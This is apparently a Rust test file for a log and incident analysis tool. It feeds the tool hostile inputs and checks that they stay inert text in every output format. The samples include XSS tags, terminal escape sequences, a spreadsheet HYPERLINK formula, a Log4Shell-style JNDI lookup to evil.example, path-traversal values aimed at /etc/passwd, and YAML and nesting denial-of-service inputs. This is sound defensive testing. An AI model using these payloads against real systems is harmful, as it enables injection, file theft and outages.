//! Input that wants to act: on the terminal, in the page where a report is pasted, on the disk. It must stay text.

use serde_json::{Value, json};

use crate::tool::{Folder, done};

/// Each acts somewhere: a terminal, HTML, Markdown, a spreadsheet, the order of reading, a line-based format.
const ATTACKS: [&str; 9] = [
    "\u{1b}[2J\u{1b}[31mred\u{1b}]0;title\u{7}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[click](https://evil.example) ![pic](http://evil.example/p.png) @everyone",
    "=HYPERLINK(\"http://evil.example\";\"x\")",
    "abc\u{202e}gpj.exe\u{202c}\u{2066}\u{200b}",
    "line one\nCAUSE 99 %   nobody\n# heading\r\n- bullet",
    "`code` **bold** | cell | ~~gone~~",
    "\u{9b}31m\u{85}\u{2028}\u{e0041}",
    "]]>{{7*7}}${jndi:ldap://evil.example/a}%n%s",
];
/// A folder's name may hold anything but a slash.
const SERVICE: &str = "pay\u{1b}[31m<b>[x](y)\u{202e}=1+1@everyone";

/// Ten minutes of traffic that fails from the sixth on, when a hostile change was made; everything in it is hostile.
pub fn bundle() -> Folder {
    let folder = Folder::new(&[]);
    let (mut access, mut app) = (String::new(), String::new());
    for second in 0..600 {
        let clock = format!("17:{:02}:{:02}", second / 60, second % 60);
        let failing = second >= 360;
        for request in 0..5 {
            let status = if failing && request < 3 { 500 } else { 200 };
            access += &format!(
                "10.0.0.{} - - [22/Nov/2026:{clock} +0000] \"GET /pay?<script> HTTP/1.1\" {status} 12 \"-\" \"ua\"\n",
                request + 1
            );
        }
        let attack = ATTACKS[second % ATTACKS.len()];
        let (level, message) = if failing { ("error", format!("payment failed {attack}")) } else { ("info", format!("fine {attack}")) };
        app += &format!("{}\n", json!({"time": format!("2026-11-22T{clock}Z"), "level": level, "service": SERVICE, "msg": message}));
    }
    folder.write(&format!("logs/{SERVICE}/access.log"), access.as_bytes());
    folder.write(&format!("logs/{SERVICE}/app.log"), app.as_bytes());
    folder.write(&format!("configs/{SERVICE}/1.json"), snapshot("before").as_bytes());
    folder.write(&format!("configs/{SERVICE}/2.json"), snapshot("after").as_bytes());
    folder.write("changes.jsonl", changes().as_bytes());
    folder
}

fn snapshot(word: &str) -> String {
    let edits = ATTACKS.iter().enumerate().map(|(i, attack)| (format!("key{i}{attack}"), json!(format!("{word}{attack}"))));
    let pool = ("db.pool.max_size".to_owned(), json!(if word == "before" { 10 } else { 1 }));
    Value::Object(edits.chain([pool]).collect()).to_string()
}

fn changes() -> String {
    let change = |(number, attack): (usize, &&str)| {
        let change = json!({
            "id": format!("deploy-{number}{attack}"), "time": format!("2026-11-22T17:05:{:02}Z", 50 + number), "service": SERVICE, "kind": "deploy",
            "version": format!("2{attack}"), "previous_version": format!("1{attack}"), "summary": attack, "author": attack, "url": format!("https://evil.example/{attack}"),
            "config_before": format!("configs/{SERVICE}/1.json"), "config_after": format!("configs/{SERVICE}/2.json"),
        });
        format!("{change}\n")
    };
    ATTACKS.iter().enumerate().map(change).collect()
}

/// Whether it acts on a terminal or hides from a reader.
fn acts(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}')
}

fn check_harmless(text: &str, what: &str) {
    let raw: Vec<String> = text.chars().filter(|c| acts(*c)).map(|c| c.escape_unicode().to_string()).collect();
    assert!(raw.is_empty(), "{what}: {raw:?} in\n{text}");
    for line in text.lines() {
        assert!(!line.starts_with("CAUSE 99 %   nobody") && !line.starts_with("# heading"), "{what}: a line was forged in\n{text}");
    }
}

#[test]
fn the_bundle_is_worth_testing() {
    let document = done(&["analyze", &bundle().shown(), "--format", "json"]).json();
    let incident = &document["incidents"][0];
    assert_eq!(incident["causes"][0]["kind"], "change", "{document:#}");
    let told = document.to_string();
    for attack in ATTACKS {
        let quoted = json!(attack).to_string();
        assert!(told.contains(quoted.trim_matches('"')), "{quoted} is nowhere in the document");
    }
}

#[test]
fn a_terminal_gets_text_only() {
    let folder = bundle();
    for more in [&[][..], &["--all"]] {
        let run = done(&[&["analyze", &folder.shown()], more].concat());
        check_harmless(&run.out, "terminal");
        check_harmless(&run.err, "messages");
        assert!(run.out.contains("pay\\x1b[31m<b>"), "the service is not named in\n{}", run.out);
    }
    let coloured = done(&["analyze", &folder.shown(), "--all", "--color", "always"]).out;
    check_harmless(&without_colours(&coloured), "coloured");
}

/// Without the colours that the program itself gives: `ESC [ numbers m`.
fn without_colours(text: &str) -> String {
    let mut parts = text.split("\x1b[");
    let mut plain = parts.next().unwrap_or("").to_owned();
    for part in parts {
        let rest = part.trim_start_matches(|c: char| c.is_ascii_digit() || c == ';');
        match rest.strip_prefix('m') {
            Some(rest) => plain += rest,
            None => plain += &format!("\x1b[{part}"),
        }
    }
    plain
}

#[test]
fn markdown_gets_text_only() {
    let out = done(&["analyze", &bundle().shown(), "--all", "--format", "markdown"]).out;
    check_harmless(&out, "markdown");
    let outside_code: String = out.lines().map(|line| without_code(line) + "\n").collect();
    for bad in ["<script", "<img", "<b>", "@everyone", "](", "![", "http://", "https://", "~~gone~~", "**bold**"] {
        assert!(!outside_code.contains(bad), "{bad} got through in\n{out}");
    }
}

/// A line without its code spans and escaped characters.
fn without_code(line: &str) -> String {
    let mut out = String::new();
    let (mut in_code, mut escaped) = (false, false);
    for c in line.chars() {
        match c {
            _ if escaped => escaped = false,
            '\\' if !in_code => escaped = true,
            '`' => in_code = !in_code,
            c if !in_code => out.push(c),
            _ => {}
        }
    }
    assert!(!in_code, "a code span is left open: {line}");
    out
}

#[test]
fn json_stays_json_and_keeps_what_was_said() {
    let run = done(&["analyze", &bundle().shown(), "--format", "json"]);
    check_harmless(&run.out, "json");
    let document = run.json();
    let changes = document["changes"].as_array().unwrap();
    assert_eq!(changes.len(), ATTACKS.len());
    for (change, attack) in changes.iter().zip(ATTACKS) {
        assert!(change["id"].as_str().unwrap().ends_with(attack), "{change:#}");
        assert_eq!(change["service"], SERVICE);
    }
}

#[test]
fn a_change_cannot_read_what_is_outside_of_the_bundle() {
    let outside = Folder::new(&[
        ("secret.yaml", b"password: hunter2\n"),
        ("bundle/configs/a/1.yaml", b"a: 1\n"),
        ("bundle/logs/a/a.log", b"2026-11-22 17:00:00 INFO x\n"),
    ]);
    let absolute = outside.at("secret.yaml");
    for path in ["../../etc/passwd", "../secret.yaml", "configs/../../secret.yaml", "/etc/passwd", &absolute] {
        let change = json!({"id": "d", "time": "2026-11-22T17:00:00Z", "service": "a", "kind": "deploy", "config_before": path, "config_after": "configs/a/1.yaml"});
        outside.write("bundle/changes.jsonl", change.to_string().as_bytes());
        let run = done(&["analyze", &outside.at("bundle"), "--format", "json"]);
        assert!(run.err.contains("leads out of the bundle: not read"), "{path}: {}", run.err);
        assert!(!run.out.contains("hunter2") && !run.out.contains("root:"), "{path}: {}", run.out);
        assert_eq!(run.json()["changes"][0]["id"], "d", "the change itself is lost");
    }
}

#[cfg(unix)]
#[test]
fn names_that_are_no_text_are_no_trouble() {
    use std::os::unix::ffi::OsStrExt;
    let folder = Folder::new(&[("logs/a/a.log", b"2026-11-22 17:00:00 INFO x\n")]);
    let odd = folder.path().join("logs").join(std::ffi::OsStr::from_bytes(b"b\xff\xfe"));
    std::fs::create_dir(&odd).unwrap();
    std::fs::write(odd.join("b.log"), "2026-11-22 17:00:00 ERROR y\n").unwrap();
    let run = done(&["analyze", &folder.shown(), "--all"]);
    check_harmless(&run.out, "terminal");
    assert!(run.out.contains("2 sources"), "{}", run.out);
}

/// Nothing here may take long: a tool that reads strangers' logs must not be stopped by them.
#[test]
fn deep_and_long_things_come_to_an_end() {
    let deep = |open: &str, close: &str| open.repeat(50_000) + &close.repeat(50_000);
    let cases = [
        ("changes.jsonl", deep("[", "]")),
        ("changes.jsonl", deep("{\"a\":", "}")),
        ("configs/a/1.json", deep("[", "]")),
        ("configs/a/1.yaml", deep("[", "]")),
        ("configs/a/1.yaml", "a: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f]\nh: [*g,*g,*g,*g,*g,*g,*g,*g]\n".to_owned()),
        ("configs/a/1.toml", format!("a = {}", deep("[", "]"))),
        ("metrics/m.json", format!("{{\"status\":\"success\",\"data\":{{{}", deep("[", "]"))),
        ("logs/a/a.log", deep("{\"a\":", "}") + "\n"),
        ("logs/a/a.log", "x".repeat(20_000_000)),
        ("logs/a/a.log", format!("2026-11-22 17:00:00 ERROR {}\n", "a ".repeat(500_000))),
        ("logs/a/a.log", format!("2026-11-22 17:00:00 ERROR x\n{}", "\tat a.b.C(D.java:1)\n".repeat(200_000))),
    ];
    for (name, text) in cases {
        let folder = Folder::new(&[(name, text.as_bytes())]);
        let begun = std::time::Instant::now();
        done(&["analyze", &folder.shown(), "--format", "json"]).json();
        assert!(begun.elapsed().as_secs() < 30, "{name}: {:?} for {:.40}", begun.elapsed(), text);
    }
}

#[test]
fn every_other_format_gets_text_only() {
    let folder = bundle();
    let path = folder.shown();
    for arguments in [
        vec!["analyze", &path, "--format", "sarif"],
        vec!["analyze", &path, "--format", "openmetrics"],
        vec!["analyze", &path, "--plain", "--all"],
        vec!["alerts", &path],
        vec!["postmortem", &path],
    ] {
        check_harmless(&done(&arguments).out, arguments[arguments.len() - 1]);
    }
    let draft = done(&["postmortem", &path]).out;
    for bad in ["<script", "<img", "](http", "@everyone", "=HYPERLINK(\"http://"] {
        // A bracket behind a backslash is text.
        let outside_code = draft.split("```").step_by(2).collect::<String>().replace("\\]", "");
        assert!(!outside_code.contains(bad), "{bad} got through in\n{outside_code}");
    }
}

/// A terminal that is fed the report shows its lines and nothing else: no title, no moved cursor, no cleared screen.
#[test]
fn a_terminal_emulator_shows_what_was_written() {
    let folder = bundle();
    for colour in ["never", "always"] {
        let out = done(&["analyze", &folder.shown(), "--all", "--color", colour]).out;
        let height = u16::try_from(out.lines().count() + 1).unwrap();
        let mut terminal = vt100::Parser::new(height, 120, 0);
        terminal.process(out.replace('\n', "\r\n").as_bytes());
        let shown = terminal.screen().contents();
        let expected: Vec<String> = without_colours(&out).lines().map(|l| l.trim_end().to_owned()).collect();
        let found: Vec<&str> = shown.lines().map(str::trim_end).collect();
        assert_eq!(found, expected, "colour {colour}");
    }
}

#[test]
fn a_line_of_a_megabyte_stays_short_everywhere() {
    let folder = bundle();
    let long = format!("{{\"time\":\"2026-11-22T17:06:30Z\",\"level\":\"error\",\"msg\":\"{}\"}}\n", "x<script>y ".repeat(100_000));
    folder.write("logs/long/long.log", long.repeat(4).as_bytes());
    for format in ["terminal", "markdown", "html", "plain", "sarif", "openmetrics"] {
        let out = done(&["analyze", &folder.shown(), "--format", format]).out;
        assert!(out.len() < 400_000, "{format}: {} bytes", out.len());
    }
}
